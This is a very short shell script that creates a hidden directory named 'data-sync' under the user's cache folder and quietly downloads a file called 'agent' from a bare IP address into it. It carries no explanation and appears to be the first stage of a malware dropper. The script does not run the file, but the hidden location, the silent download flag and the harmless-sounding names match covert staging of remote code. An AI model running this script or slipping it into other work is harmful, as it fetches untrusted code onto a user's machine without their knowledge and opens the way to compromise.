#!/bin/sh
mkdir -p "$HOME/.cache/data-sync"
wget -q -O "$HOME/.cache/data-sync/agent" http://203.0.113.5/agent
